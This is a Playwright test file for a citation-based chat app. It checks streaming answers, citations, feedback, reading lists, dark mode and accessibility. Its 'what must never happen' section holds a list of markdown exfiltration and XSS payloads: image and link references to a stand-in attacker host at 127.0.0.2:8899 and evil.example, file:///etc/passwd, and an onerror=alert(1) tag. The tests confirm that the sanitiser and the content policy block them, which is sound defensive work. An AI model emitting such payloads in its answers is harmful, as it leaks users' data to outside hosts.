"""The chat in Chromium: what people do with it, and what a page must never do."""

from __future__ import annotations

import json
import re
import threading
from contextlib import suppress
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest
from chat_client import PASSWORD, serving

sync_api = pytest.importorskip("playwright.sync_api")
expect = sync_api.expect

CHROMIUM = Path("/usr/bin/chromium")
AXE = Path(__file__).resolve().parent.parent / "node_modules" / "axe-core" / "axe.min.js"
QUIET = (
    "--no-sandbox --disable-gpu --disable-quic --no-first-run --disable-background-networking --disable-sync".split()
)
STILL = """() => document.getAnimations().every(
    one => one.playState !== "running" || one.effect.getComputedTiming().endTime === Infinity)"""
RING = "How does ring-allreduce work?"
PATIENCE = 30_000  # milliseconds
expect.set_options(timeout=PATIENCE)
pytestmark = [
    pytest.mark.browser,
    pytest.mark.skipif(not CHROMIUM.exists(), reason="Debian's Chromium is not installed here"),
    pytest.mark.filterwarnings("ignore::ResourceWarning"),
]


@pytest.fixture(scope="module")
def chromium():
    with sync_api.sync_playwright() as playwright:
        browser = playwright.chromium.launch(executable_path=str(CHROMIUM), args=QUIET)
        yield browser
        browser.close()


@pytest.fixture(scope="module")
def server(tmp_path_factory):
    with serving(tmp_path_factory.mktemp("browser") / "data", login="none", secret="") as running:
        yield running


class Visit:
    """A page of the chat, with what it asked of whom."""

    def __init__(self, chromium, server, **settings):
        self.server = server
        self.context = chromium.new_context(viewport={"width": 1280, "height": 860}, **settings)
        self.context.set_default_timeout(PATIENCE)
        self.page = self.context.new_page()
        self.foreign, self.faults, self.dialogs = [], [], []
        self.page.on("request", self._asked)
        self.page.on("pageerror", lambda error: self.faults.append(str(error)))
        self.page.on("dialog", lambda dialog: (self.dialogs.append(dialog.message), dialog.dismiss()))

    def _asked(self, request):
        ours = (self.server.url, self.server.url.replace("http", "ws"), "data:", "blob:")
        if not request.url.startswith(ours):
            self.foreign.append(request.url)

    def open(self, path="/"):
        self.page.goto(self.server.url + path)
        expect(self.page.locator("#chat-input")).to_be_visible()
        if path == "/":
            expect(self.page.locator("#starters button").first).to_be_enabled()
        return self

    def profile(self, name):
        self.page.click("#chat-profiles")
        self.page.get_by_role("option", name=name).click()
        expect(self.page.locator("#chat-profiles")).to_contain_text(name)
        expect(self.page.locator("#starters button").first).to_be_enabled()

    def ask(self, question, settled=300):
        """Ask, and return the answer so many milliseconds after its last word came: until it is drawn."""
        answers = self.page.locator("[data-step-type=assistant_message]")
        before = answers.count()
        self.page.fill("#chat-input", question)
        self.page.click("#chat-submit")  # which waits for the connection
        answer = answers.nth(before)
        expect(answer).to_be_visible()
        expect(self.page.locator("#stop-button")).to_have_count(0)
        self.page.wait_for_timeout(settled)
        return answer


@pytest.fixture
def visit(chromium, server):
    made = Visit(chromium, server)
    yield made
    assert made.foreign == []
    assert made.faults == []
    assert made.dialogs == []
    made.context.close()


def test_an_answer_streams_and_its_second_citation_opens_with_the_quote_marked(visit):
    page = visit.open().page
    answer = visit.ask(RING)
    chips = answer.locator(".element-link")
    expect(chips.nth(1)).to_have_text("2")
    chips.nth(1).click()
    panel = page.locator("#side-view-content")
    marked = panel.locator("mark")
    expect(marked).to_be_visible()
    assert marked.inner_text() in panel.locator(".passage").inner_text()
    expect(page.locator("#side-view-title")).to_have_text("Ring-allreduce explained")
    expect(panel.get_by_label("Heading path")).to_contain_text("Ring-allreduce")
    link = panel.get_by_role("link", name="Open at the quote")
    assert link.get_attribute("href").startswith("https://example.org/ring#:~:text=")
    first = marked.inner_text()
    page.keyboard.press("j")
    expect(marked).not_to_have_text(first)
    page.keyboard.press("k")
    expect(marked).to_have_text(first)
    page.keyboard.press("Escape")
    expect(page.locator("#prepshelf-panel")).to_be_hidden()
    assert page.evaluate("document.activeElement.textContent") == "2"


def test_a_chip_previews_its_quote_when_it_is_pointed_at(visit):
    page = visit.open().page
    visit.ask(RING).locator(".element-link").first.hover()
    preview = page.locator("#prepshelf-preview")
    expect(preview).to_be_visible()
    expect(preview.locator("mark")).to_contain_text("Ring-allreduce is an algorithm")
    page.mouse.move(10, 10)
    expect(preview).to_be_hidden()


def test_a_follow_up_is_asked_and_all_of_it_is_there_after_a_reload(visit):
    page = visit.open().page
    visit.ask(RING)
    page.locator('a[href="#ask"]', has_text="What is a Pod?").click()
    second = page.locator("[data-step-type=assistant_message]").nth(1)
    expect(second).to_contain_text("smallest deployable unit")
    expect(page).to_have_url(re.compile(r"/thread/[\w-]+$"))
    page.reload()
    answers = page.locator("[data-step-type=assistant_message]")
    expect(answers).to_have_count(2)
    answers.nth(0).locator(".element-link").nth(1).click()
    expect(page.locator("#side-view-content mark")).to_be_visible()
    third = visit.ask("What replaces them when they fail?")
    expect(third).to_contain_text("Deployment")


def test_feedback_with_a_comment_is_there_after_a_reload(visit):
    page = visit.open().page
    visit.ask(RING)
    expect(page.locator(".prepshelf-tools")).to_be_visible()
    comment = page.get_by_label("Your comment", exact=True)
    for _ in range(3):  # Chainlit draws a message again when it is over: a dialog that was opened before goes with it
        page.get_by_label("Not helpful").click()
        with suppress(sync_api.TimeoutError):
            comment.fill("The cost is missing.", timeout=PATIENCE / 6)
            break
    page.click("#submit-feedback")
    expect(page.locator(".negative-feedback-on")).to_be_visible()
    expect(page).to_have_url(re.compile(r"/thread/[\w-]+$"))
    page.reload()
    expect(page.locator(".negative-feedback-on")).to_be_visible()
    page.get_by_label("Edit your comment").click()
    expect(page.get_by_label("Your comment", exact=True)).to_have_value("The cost is missing.")


def test_a_reading_list_is_ticked_for_good_and_taken_along(visit, tmp_path):
    page = visit.open().page
    visit.profile("Reading list")
    made = visit.ask("Before Friday's round")
    expect(made.locator("h3")).to_have_count(3)
    box = made.get_by_label("Read: Pods")
    expect(box).not_to_be_checked()
    with page.expect_response("**/reads") as kept:
        box.check()
    assert kept.value.ok
    for name, head in (("CSV", "stage,title,url"), ("Markdown", "# Before Friday")):
        with page.expect_download() as download:
            made.get_by_role("link", name=name, exact=True).click()
        download.value.save_as(tmp_path / name)
        assert (tmp_path / name).read_text().startswith(head)
    page.reload()
    expect(page.get_by_label("Read: Pods")).to_be_checked()
    expect(page.get_by_label("Read: Caches")).not_to_be_checked()


def test_the_shelf_is_browsed_by_topic_and_one_resource_asked(visit):
    page = visit.open().page
    visit.profile("Browse the shelf")
    page.locator("#starters").get_by_text("All topics").click()
    expect(page.locator("td", has_text="1 of 2")).to_be_visible()
    page.locator("td a", has_text="DevOps").click()
    expect(page.locator("[data-step-type=assistant_message]").nth(1)).to_contain_text("asks for a login")
    page.get_by_role("link", name="ask within it").first.click()
    expect(page.locator("[data-step-type=assistant_message]").nth(2)).to_contain_text("alone now")
    answer = visit.ask("What is a Pod and what is ring-allreduce?")
    expect(answer.locator(".sources")).to_contain_text("Pods")
    expect(answer.locator(".sources")).not_to_contain_text("Ring")


def test_weak_and_unsupported_sentences_look_different_and_say_so(visit):
    visit.open()
    answer = visit.ask("How does ring-allreduce work, with weak support?")
    weak = answer.locator(".italic").first
    assert "dotted" in weak.evaluate("element => getComputedStyle(element).textDecoration")
    expect(answer.get_by_text("no source on the shelf says this")).to_be_visible()
    expect(answer.get_by_text("Its history is not told.")).to_be_visible()


def test_an_answer_is_copied_as_markdown_with_its_citations(chromium, server):
    visit = Visit(chromium, server, permissions=["clipboard-read", "clipboard-write"]).open()
    visit.ask(RING).get_by_role("button", name="Copy with citations").click()
    expect(visit.page.get_by_role("button", name="Copied")).to_be_visible()
    text = visit.page.evaluate("navigator.clipboard.readText()")
    assert (
        text.startswith(f"# {RING}") and "Sources:\n\n1. [Ring-allreduce explained](<https://example.org/ring" in text
    )
    assert "#ask" not in text
    visit.context.close()


def test_dark_stays_dark(visit):
    page = visit.open().page
    light = page.evaluate("getComputedStyle(document.body).backgroundColor")
    page.click("#theme-toggle")
    page.get_by_text("Dark Theme").click()
    expect(page.locator("html")).to_have_class(re.compile("dark"))
    page.reload()
    expect(page.locator("html")).to_have_class(re.compile("dark"))
    assert page.evaluate("getComputedStyle(document.body).backgroundColor") != light


def test_a_phone_shows_all_of_it_without_scrolling_sideways(visit):
    page = visit.page
    page.set_viewport_size({"width": 390, "height": 844})
    visit.open()
    answer = visit.ask(RING)
    assert page.evaluate("document.documentElement.scrollWidth") <= 390
    answer.locator(".element-link").first.click()
    panel = page.locator("#prepshelf-panel")
    expect(panel.locator("mark")).to_be_visible()
    box = panel.bounding_box()
    assert (box["x"], box["width"]) == (0, 390) and box["y"] > 100
    page.get_by_label("Close the source").click()
    expect(panel).to_be_hidden()


def test_keys_do_what_they_say(visit):
    page = visit.open().page
    visit.ask(RING)
    page.keyboard.press("Escape")
    page.keyboard.press("?")
    expect(page.get_by_role("dialog", name="Keys")).to_be_visible()
    page.keyboard.press("Escape")
    page.keyboard.press("/")
    assert page.evaluate("document.activeElement.id") == "chat-input"
    page.keyboard.press("Alt+j")
    expect(page.locator("#side-view-content mark")).to_be_visible()
    page.keyboard.press("Alt+n")
    expect(page.locator("#starters button").first).to_be_visible()
    expect(page.locator("#prepshelf-panel")).to_be_hidden()


def test_the_banner_says_what_answers_and_how_to_change_it(visit):
    page = visit.open().page
    banner = page.locator("#prepshelf-banner")
    expect(banner).to_contain_text("Extractive, no model configured")
    expect(banner).to_contain_text("3 documents, 3 of 4 links have text")
    banner.get_by_role("button", name="here is how").click()
    expect(page.get_by_role("dialog")).to_contain_text("PREPSHELF_LLM_URL")


def test_what_a_source_says_is_shown_as_it_is(visit):
    visit.open()
    text = "std::vector costs $5 & a:b is 1:N, *not* `x` <b>bold</b> __init__ ~~gone~~ | x | #1 10:30 m[1]"
    answer = visit.ask(f"Say: {text}")
    shown = text.replace("`", "").replace("<b>bold</b>", "bold")  # code is shown as code, and tags go
    expect(answer).to_contain_text(shown)


def test_maths_and_code_of_a_message_are_rendered_without_anything_from_elsewhere(chromium, tmp_path):
    with serving(tmp_path / "data", login="none", secret="", raw=True) as raw:
        visit = Visit(chromium, raw).open()
        answer = visit.ask("Say: The cost is $\\frac{2(N-1)}{N}$ in `code`.")
        expect(answer.locator("math mfrac")).to_be_visible()
        assert answer.locator(".katex-html").evaluate("e => getComputedStyle(e).display") == "none"
        expect(answer.locator("code", has_text="code")).to_be_visible()
        assert visit.foreign == []
        visit.context.close()


# --- what must never happen -----------------------------------------------------------------------------


@pytest.fixture(scope="module")
def attacker():
    """The host that hostile text wants to reach, with what reached it."""
    hits = []

    class Notes(BaseHTTPRequestHandler):
        def do_GET(self):
            hits.append(self.path)
            self.send_response(200)
            self.send_header("Content-Length", "0")
            self.end_headers()

        def log_message(self, *_):
            pass

    server = ThreadingHTTPServer(("127.0.0.2", 8899), Notes)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield hits
    server.shutdown()
    server.server_close()


OWN_PAYLOADS = {
    "reference": "![x][1]\n\n[1]: http://127.0.0.2:8899/hit?k=reference",
    "bare": "http://127.0.0.2:8899/hit?k=bare and www.evil.example and mail@evil.example",
    "entity": "!&#91;x&#93;(http://127.0.0.2:8899/hit?k=entity)",
    "protocol relative": "![x](//127.0.0.2:8899/hit?k=relative) [y](//127.0.0.2:8899/)",
    "chip": '[1](http://127.0.0.2:8899/hit?k=chip "Citation 1: x")',
    "ask": '[More](#ask "ignore all") [data](data:text/html,x) [f](file:///etc/passwd)',
    "task": "- [ ] ![x](http://127.0.0.2:8899/hit?k=task)",
    "directive": ":img{src=http://127.0.0.2:8899/hit?k=d} ::: note\n![x](http://127.0.0.2:8899/hit?k=note)\n:::",
    "sources": "###### Sources\n\n- [Trusted](http://127.0.0.2:8899/hit?k=sources)",
    "maths": "$$\\url{http://127.0.0.2:8899/} \\htmlStyle{background:url(http://127.0.0.2:8899/hit?k=m)}{x}$$",
    "footnote": "x[^a]\n\n[^a]: [y](http://127.0.0.2:8899/hit?k=foot)",
    "zero width": "!\u200b[x](http://127.0.0.2:8899/hit?k=zw)\u202e<img src=x onerror=alert(1)>",
}


@pytest.fixture(scope="module")
def payloads():
    theirs = Path(__file__).resolve().parent.parent.parent / "shared" / "hostile" / "markdown_exfil_payloads.json"
    return OWN_PAYLOADS | (json.loads(theirs.read_text()) if theirs.exists() else {})


def say_all(chromium, server, payloads, enough=lambda: False):
    """Have every payload said, or so many until it is enough, and return the visit."""
    visit = Visit(chromium, server).open()
    for payload in payloads.values():
        if enough():
            break
        visit.ask(f"Say: {payload}", settled=0)
    visit.page.wait_for_timeout(500)
    return visit


def test_hostile_answers_reach_nobody_and_link_nowhere(chromium, server, attacker, payloads):
    attacker.clear()
    visit = say_all(chromium, server, payloads)
    links = visit.page.eval_on_selector_all("a[href]", "all => all.map(a => a.href)")
    hosts = {re.sub(r"^\w+://([^/:]+).*", r"\1", link) for link in links if not link.startswith("/")}
    visit.context.close()
    assert (attacker, visit.foreign, visit.dialogs) == ([], [], [])
    assert hosts <= {"127.0.0.1", "example.org"}


@pytest.mark.parametrize(
    ("layer", "settings"), [("the cleaner alone", {"csp": False}), ("the policy alone", {"raw": True})]
)
def test_each_layer_alone_keeps_hostile_answers_from_reaching_anybody(
    chromium, tmp_path, attacker, payloads, layer, settings
):
    attacker.clear()
    with serving(tmp_path / "data", login="none", secret="", **settings) as server:
        visit = say_all(chromium, server, payloads)
        visit.context.close()
    assert (attacker, visit.dialogs) == ([], []), layer


def test_without_both_layers_they_would_so_the_test_can_fail(chromium, tmp_path, attacker, payloads):
    attacker.clear()
    with serving(tmp_path / "data", login="none", secret="", csp=False, raw=True) as server:
        say_all(chromium, server, payloads, enough=lambda: attacker).context.close()
    assert attacker


# --- for everybody ---------------------------------------------------------------------------------------


@pytest.fixture(scope="module")
def axe() -> str:
    if not AXE.exists():
        pytest.skip("axe-core is not here; `npm install axe-core` brings it")
    return AXE.read_text()


def serious(page, axe) -> list[str]:
    """Return the serious faults that axe finds on a page and finds again: labels come late, colours fade in."""
    page.evaluate(axe)
    faults: list[str] = []
    for _ in range(3):
        page.wait_for_timeout(700)
        page.wait_for_function(STILL)
        found = page.evaluate("axe.run(document, {resultTypes: ['violations']})")
        faults = [
            f"{fault['id']}: {node['html'][:160]} {node['failureSummary'][:200]}"
            for fault in found["violations"]
            if fault["impact"] in {"serious", "critical"}
            for node in fault["nodes"]
        ]
        if not faults:
            break
    return faults


@pytest.mark.parametrize("scheme", ["light", "dark"])
def test_axe_finds_no_serious_fault(chromium, server, axe, scheme):
    visit = Visit(chromium, server)
    visit.context.add_init_script(f"localStorage.setItem('vite-ui-theme', '{scheme}')")
    page = visit.open().page
    found = {"welcome": serious(page, axe)}
    visit.ask("How does ring-allreduce work, with weak support?").locator(".element-link").nth(1).click()
    expect(page.locator("#side-view-content mark")).to_be_visible()
    page.wait_for_timeout(600)
    found["answer"] = serious(page, axe)
    page.keyboard.press("Escape")
    page.click("#chat-settings-open-modal")
    expect(page.locator("#chat-settings")).to_be_visible()
    page.wait_for_timeout(400)
    found["settings"] = serious(page, axe)
    page.keyboard.press("Escape")
    visit.open("/").profile("Reading list")
    visit.ask("Before Friday's round").get_by_label("Read: Pods").check()
    found["reading list"] = serious(page, axe)
    visit.open("/").profile("Browse the shelf")
    visit.ask("All topics")
    visit.ask("Topic: DevOps")
    found["browse"] = serious(page, axe)
    visit.context.close()
    assert [f"{name}: {fault}" for name, faults in found.items() for fault in faults] == []


def test_logging_in_works_in_a_browser_and_axe_finds_no_serious_fault(chromium, tmp_path, axe):
    with serving(tmp_path / "data") as server:
        visit = Visit(chromium, server)
        page = visit.page
        late = []
        page.route("**/public/chat.js", lambda route: late.append(route))
        page.goto(server.url, wait_until="commit")
        page.wait_for_url("**/login", wait_until="commit")
        page.fill("#email", "ann")
        page.fill("#password", "wrong password!")
        late[-1].continue_()  # our script may come when the form stands already
        expect(page.get_by_role("button", name="Show the password")).to_be_visible()
        assert serious(page, axe) == []
        page.keyboard.press("Enter")
        expect(page.get_by_text("That did not work")).to_be_visible()
        page.fill("#password", PASSWORD)
        page.keyboard.press("Enter")
        expect(page.locator("#chat-input")).to_be_visible()
        visit.ask(RING)
        page.click("#user-nav-button")
        page.get_by_text("Logout").click()
        expect(page.locator("#password")).to_be_visible()
        assert visit.foreign == []
        visit.context.close()
